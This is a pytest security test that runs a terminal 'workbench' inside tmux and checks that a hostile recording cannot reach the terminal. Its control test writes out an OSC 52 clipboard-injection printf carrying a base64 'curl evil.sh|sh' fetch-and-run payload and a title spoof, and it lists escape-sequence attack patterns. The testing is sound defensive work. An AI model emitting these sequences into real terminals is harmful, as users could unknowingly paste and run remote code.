"""Issue 29: the workbench on a hostile recording, in a real terminal (tmux).

tmux runs on a private socket with ``set-clipboard on``, so an OSC 52 sequence reaching it
fills a paste buffer, and an OSC 0 sequence sets the pane's title. The test first shows that
this terminal obeys both (a ``printf`` of the attacks), then opens the workbench on the
imported recording and checks that no buffer was made, the pane title is not the
attacker's, and the raw bytes the workbench wrote (``pipe-pane``) hold none of the attacks.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.security.hostile_recording import ATTACKER_TITLE, write_hostile_recording
from tests.tmux_env import plain_shell_env

ROOT = Path(__file__).resolve().parents[2]

pytestmark = pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed")


class Tmux:
    """One tmux server on a socket of its own."""

    def __init__(self, socket: str) -> None:
        self.socket = socket

    def __call__(self, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["tmux", "-L", self.socket, "-f", "/dev/null", *args],
            capture_output=True,
            text=True,
            check=check,
            timeout=30,
            env=plain_shell_env(),
        )

    def buffers(self) -> str:
        return self("list-buffers", check=False).stdout

    def title(self, target: str) -> str:
        return self("display-message", "-p", "-t", target, "#{pane_title}").stdout.strip()

    def screen(self, target: str) -> str:
        return self("capture-pane", "-p", "-t", target).stdout


@pytest.fixture
def tmux() -> Iterator[Tmux]:
    server = Tmux(f"ctxscope-test-{os.getpid()}-{time.monotonic_ns()}")
    server("new-session", "-d", "-s", "probe", "-x", "120", "-y", "40", "sh")
    server("set-option", "-g", "set-clipboard", "on")
    try:
        yield server
    finally:
        server("kill-server", check=False)


def wait_for(predicate: object, timeout: float = 60.0) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():  # type: ignore[operator]
            return True
        time.sleep(0.2)
    return False


def test_the_terminal_obeys_the_attacks(tmux: Tmux, tmp_path: Path) -> None:
    """The control: printed raw, the attacks fill a paste buffer and set the pane title."""
    attack = "printf '\\033]52;c;Y3VybCBldmlsLnNofHNo\\007\\033]0;PWNED-TITLE\\007'"
    tmux("send-keys", "-t", "probe", attack, "Enter")
    assert wait_for(lambda: "curl evil.sh|sh" in tmux("show-buffer", check=False).stdout, 10)
    assert wait_for(lambda: tmux.title("probe") == ATTACKER_TITLE, 10)


def test_the_workbench_writes_no_attack_to_the_terminal(tmux: Tmux, tmp_path: Path) -> None:
    db = tmp_path / "h.db"
    recording = write_hostile_recording(tmp_path / "bad.jsonl")
    home = tmp_path / "home"  # not the workspace: a home folder is never one
    home.mkdir()
    env = {**os.environ, "PYTHONPATH": str(ROOT), "HOME": str(home)}
    env.pop("ANTHROPIC_API_KEY", None)
    done = subprocess.run(
        [sys.executable, "-m", "cli.main", "import", str(recording), "--db", str(db)],
        env=env,
        cwd=tmp_path,
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    raw = tmp_path / "pane.raw"
    command = (
        f"cd {tmp_path} && env -u ANTHROPIC_API_KEY PYTHONPATH={ROOT} HOME={home} "
        f"CTXSCOPE_MODEL=offline {sys.executable} -m cli.workbench --db {db} --resume 1 "
        f"--workspace {tmp_path}"
    )
    tmux("new-session", "-d", "-s", "bench", "-x", "120", "-y", "40", "sh")
    tmux("pipe-pane", "-o", "-t", "bench", f"cat >> {raw}")
    tmux("send-keys", "-t", "bench", command, "Enter")
    assert wait_for(lambda: "#1 import:" in tmux.screen("bench")), tmux.screen("bench")
    # the panes fill from workers: the history's count, the gauge's heaviest step
    filled = ("F6: last round", "4 messages", "heaviest assistant step")
    assert wait_for(lambda: all(s in tmux.screen("bench") for s in filled)), tmux.screen("bench")
    # the scratchpad (the last round's tool call) and back, each once it shows; the Escape
    # is read before the C-q below, so the pipe holds what it drew
    tmux("send-keys", "-t", "bench", "F6")
    assert wait_for(lambda: "F6: back to live" in tmux.screen("bench"), 30), tmux.screen("bench")
    tmux("send-keys", "-t", "bench", "F6")
    assert wait_for(lambda: "Scratchpad · live" in tmux.screen("bench"), 30), tmux.screen("bench")
    tmux("send-keys", "-t", "bench", "Escape")
    shown = tmux.screen("bench")
    tmux("send-keys", "-t", "bench", "C-q")
    assert wait_for(lambda: "#1 import:" not in tmux.screen("bench"), 30)
    assert tmux.buffers() == ""  # no clipboard write reached the terminal
    assert tmux.title("bench") != ATTACKER_TITLE
    written = raw.read_bytes()
    assert len(written) > 1000  # the workbench drew through the pipe
    for attack in (b"\x1b]52;", b"\x1b]0;PWNED", b"\x1b]8;;https://evil", b"\xc2\x9b", b"\x7f"):
        assert attack not in written, attack
    assert "\\x1b]0;PWNED-TITLE\\x07" in shown  # the title was drawn, escaped
